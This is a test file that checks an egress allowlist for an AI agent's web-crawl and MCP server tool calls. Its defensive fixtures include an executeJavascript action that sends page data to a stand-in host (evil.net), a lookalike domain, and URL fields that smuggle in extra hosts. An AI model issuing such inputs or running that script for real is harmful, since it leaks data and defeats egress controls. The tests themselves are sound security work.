import { describe, expect, it } from 'vitest'
import { createEgressAllowlistSetting, isCrawlAllowed, isServerAllowed } from './allowed-domains.ts'

const { parse } = createEgressAllowlistSetting('Calls.')
const scrape = 'mcp_web_crawl__firecrawl_scrape'
const search = 'mcp_web_crawl__firecrawl_search'

const executing = { type: 'executeJavascript', script: "fetch('//evil.net/?d=' + document.title)" }

describe('SVC_AGENT_EGRESS_ALLOWED', () => {
  it.each([
    [undefined, scrape, { url: 'https://example.com/' }, false],
    [search, search, { query: 'parts' }, true],
    [search, scrape, { url: 'https://example.com/' }, false],
    ['mcp_web_crawl__*', scrape, { url: 'https://evil.net/' }, true],
    ['mcp_web_crawl__firecrawl_s*', search, { query: 'parts' }, true],
    ['example.com', scrape, { url: 'https://docs.example.com/' }, true],
    ['*.example.com', scrape, { url: 'https://example.com/' }, false],
    ['example.com', scrape, { url: 'https://evil.net/' }, false],
    ['example.com', scrape, { url: 'https://example.com/', also: 'https://evil.net' }, false],
    ['example.com', scrape, { url: 'https://example.com/', webhook: { events: ['all'] } }, false],
    ['example.com', scrape, { urls: ['https://example.com/a', 'https://docs.example.com/'] }, true],
    ['example.com', scrape, { urls: ['https://example.com/a', 'https://evil.net/'] }, false],
    ['example.com', scrape, { urls: [] }, false],
    ['example.com', scrape, { urls: [['https://example.com/']] }, false],
    ['example.com', scrape, { url: 'example.com' }, false],
    ['example.com', scrape, { url: 'https://example.com/ https://evil.net/' }, false],
    ['example.com', scrape, { url: 'https://example.com/', formats: ['markdown', 'links'], waitFor: 500 }, true],
    ['example.com', scrape, { url: 'https://example.com/', onlyMainContent: true, mobile: false }, true],
    ['example.com', scrape, { url: 'https://example.com/', formats: ['the token'] }, false],
    ['example.com', scrape, { url: 'https://example.com/', formats: [{ type: 'json', prompt: 'p' }] }, false],
    ['example.com', scrape, { url: 'https://example.com/', onlyMainContent: 'yes' }, false],
    ['example.com', scrape, { url: 'https://example.com/', waitFor: '500' }, false],
    ['example.com', scrape, { url: 'https://example.com/', headers: { cookie: 'a' } }, false],
    ['example.com', scrape, { url: 'https://example.com/', actions: [executing] }, false],
    ['example.com', search, { url: 'https://example.com/', query: 'parts', includeDomains: ['evil.net'] }, false],
    ['example.com', search, { query: 'parts' }, false],
    [`example.com, ${search}`, search, { query: 'parts' }, true],
  ])('%j lets %s with %j go: %s', (list, name, input, isAllowed) => {
    expect(isCrawlAllowed(name, input, parse(list))).toBe(isAllowed)
  })

  it.each([
    ['tools.example.com', 'https://tools.example.com/mcp', true],
    ['example.com', 'https://tools.example.com./mcp', true],
    ['example.com', 'https://example.com.evil.net/mcp', false],
    ['mcp_web_crawl__*', 'https://tools.example.com/mcp', false],
    [undefined, 'https://tools.example.com/mcp', false],
  ])('%j lets a server at %s go: %s', (list, endpoint, isAllowed) => {
    expect(isServerAllowed(new URL(endpoint), parse(list))).toBe(isAllowed)
  })

  it.each(['mcp_docs__search', 'mcp_web_crawl__', 'mcp_web_crawl__a*b', 'two words', 'https://example.com'])(
    'rejects %j, which is neither a host nor a crawler tool',
    (entry) => {
      expect(() => parse(entry)).toThrow('must be hosts')
    },
  )
})
